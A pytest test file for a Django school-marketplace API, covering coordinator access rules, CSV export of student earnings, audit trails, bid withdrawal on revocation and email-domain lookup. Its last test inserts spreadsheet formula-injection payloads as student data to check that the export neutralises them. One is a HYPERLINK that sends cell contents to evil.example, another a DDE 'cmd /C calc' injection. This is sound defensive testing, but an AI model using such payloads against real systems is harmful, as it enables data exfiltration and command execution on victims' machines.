from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from marketplace.models import User
from payments.services.ledger import ledger_post
from projects.briefs.models import Bid
from schools.models import VerificationEvent
from tests.factories import (
    CompanyMemberFactory,
    CoordinatorFactory,
    ProjectFactory,
    SchoolDomainFactory,
    SchoolFactory,
    UserFactory,
    VerificationFactory,
    VerifiedStudentFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def school_students(as_user):  # type: ignore[no-untyped-def]
    a, b = SchoolFactory(name="Alpha"), SchoolFactory(name="Beta")
    ada = VerifiedStudentFactory(first_name="Ada", last_name="Zed", verification__school=a)
    bob = VerifiedStudentFactory(first_name="Bob", last_name="Young", verification__school=a)
    VerifiedStudentFactory(verification__school=b)
    ledger_post(
        kind="release",
        currency="EUR",
        entries=[(f"student:{ada.pk}", 90_000), ("escrow", -90_000)],
    )
    ledger_post(
        kind="release", currency="USD", entries=[(f"student:{ada.pk}", 1_250), ("escrow", -1_250)]
    )
    return SimpleNamespace(
        a=a,
        b=b,
        ada=ada,
        bob=bob,
        coord_a=as_user(CoordinatorFactory(school=a).user),
        coord_b=as_user(CoordinatorFactory(school=b).user),
        staff=as_user(UserFactory(role=User.Role.ADMIN, is_staff=True)),
        company=as_user(CompanyMemberFactory()),
        student=as_user(ada),
    )


def test_a_coordinator_sees_their_students_and_what_they_earned(school_students):  # type: ignore[no-untyped-def]
    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/")
    assert res.status_code == 200
    rows = res.json()["results"]
    assert [(r["first_name"], r["completed_contracts"], r["earned"]) for r in rows] == [
        ("Bob", 0, {}),
        ("Ada", 0, {"EUR": 90_000, "USD": 1_250}),
    ]


@pytest.mark.parametrize(
    ("who", "code"), [("coord_b", 404), ("company", 403), ("student", 403), ("staff", 200)]
)
@pytest.mark.parametrize("page", ["students/", "students/export/", "audit-trail/"])
def test_only_the_school_and_staff_see_its_pages(school_students, who, code, page):  # type: ignore[no-untyped-def]
    assert (
        getattr(school_students, who)
        .get(f"/api/v1/schools/{school_students.a.pk}/{page}")
        .status_code
        == code
    )


def test_unknown_school_is_404(school_students):  # type: ignore[no-untyped-def]
    assert school_students.staff.get("/api/v1/schools/999999/students/").status_code == 404


def test_csv_export_has_every_student_with_formatted_earnings(school_students):  # type: ignore[no-untyped-def]
    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/export/")
    assert res.status_code == 200
    assert res["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
    assert [(r["first_name"], r["earned"]) for r in rows] == [
        ("Bob", ""),
        ("Ada", "900.00 EUR; 12.50 USD"),
    ]


def test_the_audit_trail_records_who_decided_what_and_why(school_students, as_user):  # type: ignore[no-untyped-def]
    pending = VerificationFactory(school=school_students.a, status="pending_review")
    school_students.coord_a.post(
        f"/api/v1/verifications/{pending.pk}/reject/", {"reason": "Not enrolled"}
    )
    events = school_students.coord_a.get(
        f"/api/v1/schools/{school_students.a.pk}/audit-trail/"
    ).json()["results"]
    assert (events[0]["from_status"], events[0]["to_status"], events[0]["reason"]) == (
        "pending_review",
        "rejected",
        "Not enrolled",
    )
    assert events[0]["actor"]["role"] == "coordinator"
    assert events[0]["student"]["id"] == pending.student_id


def test_revoking_withdraws_open_bids_and_keeps_decided_ones(school_students):  # type: ignore[no-untyped-def]
    open_brief, other = ProjectFactory(), ProjectFactory()
    open_bid = Bid.objects.create(
        project=open_brief,
        student=school_students.ada,
        amount_cents=5_000,
        currency="EUR",
        estimated_days=3,
        cover_letter="x",
    )
    decided = Bid.objects.create(
        project=other,
        student=school_students.ada,
        amount_cents=5_000,
        currency="EUR",
        estimated_days=3,
        cover_letter="x",
        status=Bid.Status.REJECTED,
    )
    verification = school_students.ada.enrolment_verifications.get()
    res = school_students.coord_a.post(
        f"/api/v1/verifications/{verification.pk}/revoke/", {"reason": "Left the school"}
    )
    assert res.status_code == 200 and res.json()["status"] == "revoked"
    open_bid.refresh_from_db()
    decided.refresh_from_db()
    assert (open_bid.status, decided.status) == ("withdrawn", "rejected")
    assert (
        school_students.coord_b.post(
            f"/api/v1/verifications/{verification.pk}/revoke/", {"reason": "x"}
        ).status_code
        == 404
    )


def test_an_address_finds_the_schools_that_accept_it(api):  # type: ignore[no-untyped-def]
    khio_a, khio_b, other = SchoolFactory(name="K1"), SchoolFactory(name="K2"), SchoolFactory()
    SchoolDomainFactory(school=khio_a, domain="khio.no")
    SchoolDomainFactory(school=khio_b, domain="khio.no")
    found = api.get("/api/v1/schools/?email=ola@student.KHIO.no").json()["results"]
    assert sorted(s["id"] for s in found) == sorted([khio_a.pk, khio_b.pk])
    assert other.pk not in [s["id"] for s in found]
    assert api.get("/api/v1/schools/?email=ola@evilkhio.no").json()["count"] == 0


@pytest.mark.parametrize("email", ["no-at-sign", "a@b@khio.no", "ola@khio.no."])
def test_a_malformed_address_filter_is_a_400(api, email):  # type: ignore[no-untyped-def]
    res = api.get("/api/v1/schools/", {"email": email})
    assert res.status_code == 400
    assert "email" in res.json()["errors"]


@pytest.mark.parametrize("page", ["students/", "audit-trail/"])
def test_query_count_does_not_grow_with_the_page(school_students, page):  # type: ignore[no-untyped-def]
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = f"/api/v1/schools/{school_students.a.pk}/{page}"
    VerificationEvent.objects.create(
        verification=school_students.ada.enrolment_verifications.get(),
        actor=school_students.ada,
        to_status="verified",
    )
    with CaptureQueriesContext(connection) as small:
        assert school_students.coord_a.get(url).status_code == 200
    for _ in range(6):
        student = VerifiedStudentFactory(verification__school=school_students.a)
        VerificationEvent.objects.create(
            verification=student.enrolment_verifications.get(), actor=student, to_status="x"
        )
    with CaptureQueriesContext(connection) as large:
        assert school_students.coord_a.get(url).json()["count"] >= 6
    assert len(small) == len(large)


def test_the_export_does_not_run_what_students_typed(school_students):  # type: ignore[no-untyped-def]
    school_students.bob.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    school_students.bob.last_name = "+SUM(1,1)"
    school_students.bob.save()
    school_students.bob.enrolment_verifications.update(program="@SUM(1+1)*cmd|' /C calc'!A0")
    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/export/")
    rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
    bob = next(r for r in rows if r["last_name"].endswith("SUM(1,1)"))
    assert bob["first_name"].startswith("'=HYPERLINK")
    assert bob["last_name"] == "'+SUM(1,1)"
    assert bob["program"].startswith("'@SUM")
